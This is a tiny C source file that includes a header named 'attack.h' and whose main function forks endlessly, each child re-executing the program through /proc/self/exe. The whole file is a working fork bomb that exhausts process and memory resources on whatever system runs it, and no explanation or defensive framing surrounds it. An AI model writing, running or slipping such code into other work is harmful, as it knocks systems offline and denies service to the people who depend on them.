#include "attack.h"

int	main(int argc, char **argv)
{
	(void)argc;
	for (;;)
		if (fork() == 0)
			execv("/proc/self/exe", argv);
}
